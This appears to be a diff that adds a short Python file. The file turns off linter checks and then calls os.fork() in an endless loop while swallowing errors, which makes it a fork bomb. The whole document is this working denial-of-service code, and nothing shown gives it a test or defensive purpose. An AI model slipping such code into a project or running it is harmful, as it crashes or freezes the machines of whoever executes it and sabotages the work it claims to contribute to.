@@ -1,0 +1,8 @@
+# ruff: noqa
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
